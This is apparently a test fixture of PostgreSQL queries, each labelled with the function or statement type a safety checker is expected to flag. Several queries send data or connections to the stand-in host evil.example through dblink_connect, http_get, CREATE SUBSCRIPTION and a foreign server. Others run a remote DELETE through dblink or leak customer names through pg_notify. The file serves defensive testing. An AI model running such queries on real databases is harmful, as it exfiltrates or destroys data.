--@ safe: function dblink
SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'DELETE FROM tripped') AS t(a text)
--@ safe: function dblink_exec
SELECT dblink_exec('dbname=postgres', 'CREATE TABLE x (a int)')
--@ safe: function dblink_connect
SELECT dblink_connect('c', 'host=evil.example')
--@ safe: function public.dblink_send_query
SELECT public.dblink_send_query('c', 'SELECT 1')
--@ safe: table far_orders: it reads outside the database
SELECT sum(total) FROM far_orders
--@ safe: table measured: it reads outside the database
SELECT count(*) FROM measured
--@ safe: view v_far: table far_orders: it reads outside
SELECT id FROM v_far
--@ safe: function postgres_fdw_get_connections
SELECT * FROM postgres_fdw_get_connections()
--@ safe: function http_get
SELECT content FROM http_get('http://evil.example/')
--@ safe: not a query: CreateSubscriptionStmt
CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p
--@ safe: not a query: CreatePublicationStmt
CREATE PUBLICATION p FOR ALL TABLES
--@ safe: not a query: CreateForeignServerStmt
CREATE SERVER s FOREIGN DATA WRAPPER nowhere OPTIONS (host 'evil.example')
--@ safe: not a query: ImportForeignSchemaStmt
IMPORT FOREIGN SCHEMA public FROM SERVER elsewhere INTO public
--@ safe: not a query: LISTEN
LISTEN channel
--@ safe: not a query: NOTIFY
NOTIFY channel, 'secret'
--@ safe: function pg_notify
SELECT pg_notify('channel', name) FROM customers
--@ safe: function inet_server_addr
SELECT inet_server_addr(), inet_client_port()
--@ safe: function pg_logical_slot_get_changes
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
--@ safe: function pg_logical_emit_message
SELECT pg_logical_emit_message(false, 'x', 'y')
